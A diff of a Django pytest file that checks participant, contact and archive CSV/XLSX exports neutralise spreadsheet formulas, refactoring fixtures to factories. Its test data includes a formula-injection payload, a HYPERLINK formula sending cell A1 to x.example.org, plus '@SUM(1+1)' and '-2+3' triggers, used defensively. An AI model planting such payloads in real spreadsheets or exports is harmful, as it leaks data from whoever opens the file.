@@ -5,29 +5,22 @@ import datetime
 import io
 
 import pytest
-from django.contrib.auth import get_user_model
-from django.contrib.auth.models import Group
 from django.urls import reverse
 from openpyxl import load_workbook
 
+from coalitions.factories import (
+    ActivityPageFactory,
+    CoalitionMembershipFactory,
+    CoalitionPageFactory,
+    coalition_index,
+)
 from network.export import neutralise
 from network.models import ContactPerson, Participant, Role
-from network.roles import OFFICE, ensure_groups
-
-from .helpers import add_activity, add_member, at, make_coalition
+from tests.conftest import at
 
 pytestmark = pytest.mark.django_db
 
 FORMULA = '=HYPERLINK("http://x.example.org/?d="&A1,"Klik")'
-
-
-@pytest.fixture
-def office(client):
-    ensure_groups()
-    user = get_user_model().objects.create_user("bureau", "bureau@example.org", "pw")
-    user.groups.add(Group.objects.get(name=OFFICE))
-    client.force_login(user)
-    return client
 
 
 @pytest.fixture
@@ -36,9 +29,9 @@ def applicant():
     ContactPerson.objects.create(
         participant=participant, name="@SUM(1+1)", email="a@example.org", phone="+31 6 1"
     )
-    coalition = make_coalition("Rookvrije sport")
-    add_member(coalition, participant)
-    add_activity(coalition, "-2+3", at(datetime.date(2026, 5, 1)))
+    coalition = CoalitionPageFactory(parent=coalition_index(), title="Rookvrije sport")
+    CoalitionMembershipFactory(page=coalition, participant=participant)
+    ActivityPageFactory(parent=coalition, title="-2+3", published_at=at(datetime.date(2026, 5, 1)))
     return participant
 
 
@@ -58,11 +51,11 @@ def test_formula_triggers_get_an_apostrophe(value):
     assert neutralise("Rookvrij = gezond") == "Rookvrij = gezond" and neutralise(3) == 3
 
 
-def test_archive_csv_and_xlsx_carry_no_formulas(office, applicant):
-    csv = text(office.get("/admin/archief/", {"export": "csv"}))
+def test_archive_csv_and_xlsx_carry_no_formulas(office_client, applicant):
+    csv = text(office_client.get("/admin/archief/", {"export": "csv"}))
     assert "'=HYPERLINK" in csv and ";'-2+3;" in csv
     assert ";=HYPERLINK" not in csv and ";-2+3;" not in csv
-    cells = xlsx_cells(office.get("/admin/archief/", {"export": "xlsx"}))
+    cells = xlsx_cells(office_client.get("/admin/archief/", {"export": "xlsx"}))
     by_value = {cell.value: cell for cell in cells}
     assert by_value[FORMULA].data_type == "s" and by_value["-2+3"].data_type == "s"
     assert not any(cell.data_type == "f" for cell in cells)
@@ -71,12 +64,12 @@ def test_archive_csv_and_xlsx_carry_no_formulas(office, applicant):
 @pytest.mark.parametrize(
     "listing", ["wagtailsnippets_network_participant:list", "wagtailsnippets_network_contactperson:list"]
 )
-def test_participant_and_contact_exports_carry_no_formulas(office, applicant, listing):
-    csv = text(office.get(reverse(listing), {"export": "csv"}))
+def test_participant_and_contact_exports_carry_no_formulas(office_client, applicant, listing):
+    csv = text(office_client.get(reverse(listing), {"export": "csv"}))
     assert "'=HYPERLINK" in csv
     assert "\n=HYPERLINK" not in csv and ",=HYPERLINK" not in csv and '"=HYPERLINK' not in csv
     if "contactperson" in listing:
         assert "'@SUM(1+1)" in csv and "'+31 6 1" in csv
-    cells = xlsx_cells(office.get(reverse(listing), {"export": "xlsx"}))
+    cells = xlsx_cells(office_client.get(reverse(listing), {"export": "xlsx"}))
     assert FORMULA in {cell.value for cell in cells}
     assert not any(cell.data_type == "f" for cell in cells)
